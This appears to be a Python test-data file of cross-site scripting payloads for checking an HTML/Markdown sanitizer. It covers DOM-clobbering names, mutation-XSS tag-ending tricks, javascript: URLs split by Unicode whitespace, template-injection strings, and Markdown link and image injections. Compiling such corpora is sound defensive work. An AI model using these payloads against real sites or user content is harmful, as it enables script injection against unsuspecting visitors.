"""Attacks on whoever reads the tree or the text a second time: names that hide the page's own,
tags that end where nobody expects it, white space of all alphabets, and Markdown."""

CLOBBERING = [
    f"<form onsubmit=x()><input onfocus=x() autofocus name={name}>a</form><img name={name} src=x>"
    for name in (
        *("attributes", "childNodes", "parentNode", "nodeName", "removeChild", "setAttribute"),
        *("cookie", "createElement", "location", "querySelectorAll", "ownerDocument", "content"),
    )
] + ["<a id=attributes href='#attributes'>a</a><a id=attributes name=length>b</a>"]

ENDINGS = [
    "<textarea>a</textarea><!--</textarea><img src=x onerror=x()>-->",
    "<b><noscript><!-- </noscript><img src=x onerror=x() --></noscript>",
    "\x01<option><style></option></select><b><img src=x onerror=x()></style></option>",
    "<option><iframe></select><b><script>x()</script>",
    "<b><style><style/><img src=x onerror=x()>",
    "<b><style><style////><img src=x onerror=x()></style>",
    "<template><s><template><s><img src=x onerror=x()>a</s></template></s></template>",
    "<img src=x id/=' onerror=x()//'>",
    "<svg><title><style><img src=x onerror=x()></style></title></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=x()></style>",
    "<svg><desc><table><a><table></a><style><!--</style></svg><a id='-><img src onerror=x()>'>",
    "<table><caption><svg><title><table><style><a title='</style><img src onerror=x()>'>",
    "<a><table><td></a></table><style></style><a title='<img src onerror=x()>'>a",
    "<details><summary><textarea></summary><img src=x onerror=x()></details>",
    "<ruby><rt><script>x()</script><rp><img src=x onerror=x()></ruby>",
    "<dl><dt><form><dd></form><form><math><mtext></form><style><img src onerror=x()></style>",
    "<plaintext/><p><img src=x onerror=x()>",
    "<p><a href=x><p><a href=javascript:x()>a</p></a><a href=//x>b",
    "<? <img src=x onerror=x()> ?><% <img src=x onerror=x()> %>",
    "{{constructor.constructor('x()')()}} ${x()} <%= x() %> #{x()}",
]

SPACES = [
    f"<a href='&#x{code:x};javascript:x()'>a</a><a href='java&#x{code:x};script:x()'>b</a>"
    for code in (
        *(0x09, 0x0A, 0x0C, 0x0D, 0x1F, 0x85, 0xA0, 0x1680, 0x180E, *range(0x2000, 0x200E)),
        *(0x2028, 0x2029, 0x202E, 0x205F, 0x2066, 0x3000, 0xFEFF, 0xFFF9, 0xE0001),
    )
]

MARKDOWN = [
    "[a](javascript:x())",
    "[a](<javascript:x()>)",
    "[a](java\nscript:x())",
    "[a](JAVASCRIPT&colon;x())",
    "[a](&#106;avascript:x())",
    "[a](\\javascript:x())",
    "[a](data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=)",
    "[a]: javascript:x()\n\n[a]",
    "![a](javascript:x())",
    '![a](x "onerror=x()")',
    '![a"onerror="x()](x)',
    '![a](x" onerror="x())',
    "<javascript:x()>",
    "<img src=x onerror=x()>",
    "a <b onclick=x()>*b*</b> `<script>x()</script>`",
    "```<script>x()</script>\n```",
    '```"><script>x()</script>\na\n```',
    "||<img src=x|| onerror=x()>",
    "[^a]\n\n[^a]: <script>x()</script> [b](javascript:x())",
    '[^"><script>x()</script>]\n\n[^"><script>x()</script>]: a',
    "<svg>\n\n<script>x()</script>\n\n</svg>",
    "<!--\n\n<img src=x onerror=x()>\n\n-->",
    "<p title='\n\n'><img src=x onerror=x()>",
    "|a|b|\n|-|-|\n|<script>x()</script>|[b](javascript:x())|",
]

PARSERS = [*CLOBBERING, *ENDINGS, *SPACES, *MARKDOWN]
